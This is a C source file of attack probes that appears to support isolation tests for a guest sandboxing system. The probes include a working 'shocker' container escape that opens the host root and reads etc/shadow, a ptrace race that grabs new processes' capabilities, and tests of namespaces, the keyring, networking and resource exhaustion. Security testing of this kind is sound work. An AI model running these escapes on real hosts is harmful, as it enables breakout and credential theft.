// Attacks run from inside a guest by the isolation tests: one static binary
// (FleetTestSupport's GuestAttackProgram builds it), copied into a guest's
// own layer or handed in as base64. Each subcommand prints what it got; the
// tests decide. Nothing here is part of vfleet.
//
//   shocker | ptrace-watch S | syscalls NR... | userns | keyring
//   listen | udp HOST PORT | unix NAME | inotify
#define _GNU_SOURCE
#include <errno.h>
#include <sys/un.h>
#include <sys/socket.h>
#include <sys/inotify.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef CLONE_NEWUSER
#define CLONE_NEWUSER 0x10000000
#endif

// open_by_handle_at ("shocker"): through each descriptor this process has,
// open inode 2 (the root directory of an ext4/xfs file system) and read
// etc/shadow from there.
static int shocker(void) {
    struct { unsigned int bytes; int type; unsigned char f[8]; } h;
    int escaped = 0;
    for (int fd = 0; fd < 20; fd++) {
        if (fcntl(fd, F_GETFD) < 0) continue;
        memset(&h, 0, sizeof h);
        h.bytes = 8;
        h.type = 1; // FILEID_INO32_GEN
        uint32_t ino = 2, gen = 0;
        memcpy(h.f, &ino, 4);
        memcpy(h.f + 4, &gen, 4);
        int r = (int)syscall(SYS_open_by_handle_at, fd, &h, O_RDONLY | O_DIRECTORY);
        if (r >= 0) {
            int s = openat(r, "etc/shadow", O_RDONLY);
            printf("fd %d: ESCAPED (host root opened%s)\n", fd, s >= 0 ? ", read etc/shadow" : "");
            escaped = 1;
        } else {
            printf("fd %d: errno %d\n", fd, errno);
        }
    }
    return escaped ? 3 : 0;
}

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

// Waits for the next process of this pid namespace and attaches to it the
// moment it exists (pids are handed out in order), stops it and reports
// the capabilities it held when caught. Runs `seconds`.
static int ptrace_watch(int seconds) {
    double end = now() + seconds;
    int attached = 0;
    pid_t next = 0;
    while (now() < end) {
        char buf[32] = {0};
        int f = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
        if (f < 0) { printf("no ns_last_pid: errno %d\n", errno); return 1; }
        ssize_t n = read(f, buf, sizeof buf - 1);
        close(f);
        if (n <= 0) return 1;
        pid_t last = (pid_t)atoi(buf);
        if (next == 0) next = last + 1;
        if (ptrace(PTRACE_SEIZE, next, 0, 0) != 0) {
            if (errno != ESRCH) { printf("ptrace %d: errno %d\n", next, errno); next++; }
            // Handed out already and gone (or not ours to see): the next one.
            else if (last >= next) next++;
            continue;
        }
        // Stopped, it holds what it held when caught.
        ptrace(PTRACE_INTERRUPT, next, 0, 0);
        waitpid(next, NULL, __WALL);
        char path[64], status[4096];
        snprintf(path, sizeof path, "/proc/%d/status", next);
        int s = open(path, O_RDONLY);
        ssize_t m = s >= 0 ? read(s, status, sizeof status - 1) : -1;
        if (s >= 0) close(s);
        status[m > 0 ? m : 0] = 0;
        char *cap = strstr(status, "CapEff:\t");
        char *nl = cap ? strchr(cap, '\n') : NULL;
        if (nl) *nl = 0;
        printf("ATTACHED %d %s\n", next, cap ? cap + 8 : "?");
        ptrace(PTRACE_DETACH, next, 0, 0);
        attached++;
        next++;
    }
    printf("attached %d\n", attached);
    return 0;
}

// System calls by number with zeroed arguments; prints "NR errno" (0: it ran).
static int syscalls(int argc, char **argv) {
    for (int i = 0; i < argc; i++) {
        long nr = atol(argv[i]);
        errno = 0;
        long r = syscall(nr, 0, 0, 0, 0, 0, 0);
        printf("%ld %d\n", nr, r < 0 ? errno : 0);
    }
    return 0;
}

static int userns(void) {
    // clone first: after a successful unshare this process would be in
    // a namespace without id maps, where a second one is refused anyway.
    long c = syscall(SYS_clone, (long)(CLONE_NEWUSER | SIGCHLD), 0L, 0L, 0L, 0L);
    if (c == 0) _exit(0);
    int ce = errno;
    if (c > 0) waitpid((pid_t)c, NULL, 0);
    printf("clone %d\n", c >= 0 ? 0 : ce);
    int r = unshare(CLONE_NEWUSER);
    printf("unshare %d\n", r == 0 ? 0 : errno);
    return 0;
}

// The user key ring of whoever the guest's root is on the host.
static int keyring(void) {
    long r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -4 /* KEY_SPEC_USER_KEYRING */, 0);
    printf("keyctl %ld %d\n", r, r < 0 ? errno : 0);
    return 0;
}

static const char *name(int e) {
    switch (e) {
    case EPERM: return "EPERM"; case EACCES: return "EACCES"; case ECONNREFUSED: return "ECONNREFUSED";
    case EMFILE: return "EMFILE"; case ENOENT: return "ENOENT"; case EINVAL: return "EINVAL";
    case ENETUNREACH: return "ENETUNREACH"; case EADDRNOTAVAIL: return "EADDRNOTAVAIL";
    default: { static char b[16]; snprintf(b, sizeof b, "E%d", e); return b; }
    }
}

// Network and per-user table attacks (isolated guests, inotify).
static int network(int argc, char **argv) {
    setvbuf(stdout, NULL, _IONBF, 0);
    if (argc >= 2 && !strcmp(argv[1], "listen")) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        if (listen(s, 8) != 0) { printf("listen err %s\n", name(errno)); return 1; }
        struct sockaddr_in a; socklen_t l = sizeof a;
        getsockname(s, (struct sockaddr *)&a, &l);
        printf("listening %s %d\n", inet_ntoa(a.sin_addr), ntohs(a.sin_port));
        alarm(20);
        for (;;) { int c = accept(s, NULL, NULL); if (c >= 0) { printf("accepted\n"); close(c); } }
    }
    if (argc >= 4 && !strcmp(argv[1], "udp")) {
        struct sockaddr_in to; memset(&to, 0, sizeof to);
        to.sin_family = AF_INET; to.sin_port = htons((unsigned short)atoi(argv[3]));
        inet_pton(AF_INET, argv[2], &to.sin_addr);
        int s = socket(AF_INET, SOCK_DGRAM, 0);
        if (sendto(s, "x", 1, 0, (struct sockaddr *)&to, sizeof to) != 1) printf("send err %s\n", name(errno));
        else printf("sent\n");
        if (connect(s, (struct sockaddr *)&to, sizeof to) != 0) { printf("connect err %s\n", name(errno)); return 0; }
        struct sockaddr_in a; socklen_t l = sizeof a;
        getsockname(s, (struct sockaddr *)&a, &l);
        printf("connect ok %s\n", inet_ntoa(a.sin_addr));
        send(s, "y", 1, 0);
        return 0;
    }
    if (argc >= 3 && !strcmp(argv[1], "unix")) {
        struct sockaddr_un a; memset(&a, 0, sizeof a);
        a.sun_family = AF_UNIX;
        size_t n = strlen(argv[2]);
        if (n > sizeof a.sun_path - 1) n = sizeof a.sun_path - 1;
        memcpy(a.sun_path + 1, argv[2], n);
        int s = socket(AF_UNIX, SOCK_STREAM, 0);
        if (connect(s, (struct sockaddr *)&a, (socklen_t)(sizeof(sa_family_t) + 1 + n)) != 0) printf("err %s\n", name(errno));
        else printf("connected\n");
        return 0;
    }
    if (argc >= 2 && !strcmp(argv[1], "inotify")) {
        int made = 0;
        for (;;) {
            if (inotify_init1(IN_CLOEXEC) < 0) { printf("made %d then err %s\n", made, name(errno)); break; }
            if (++made >= 100000) { printf("made %d\n", made); break; }
        }
        sleep(5);
        return 0;
    }
        return -1;
}

int main(int argc, char **argv) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    if (argc < 2) { fprintf(stderr, "usage: probe shocker|ptrace-watch S|syscalls NR...|userns|keyring|listen|udp HOST PORT|unix NAME|inotify\n"); return 2; }
    if (!strcmp(argv[1], "shocker")) return shocker();
    if (!strcmp(argv[1], "ptrace-watch")) return ptrace_watch(argc > 2 ? atoi(argv[2]) : 5);
    if (!strcmp(argv[1], "syscalls")) return syscalls(argc - 2, argv + 2);
    if (!strcmp(argv[1], "userns")) return userns();
    if (!strcmp(argv[1], "keyring")) return keyring();
    int r = network(argc, argv);
    if (r >= 0) return r;
    fprintf(stderr, "unknown probe %s\n", argv[1]);
    return 2;
}
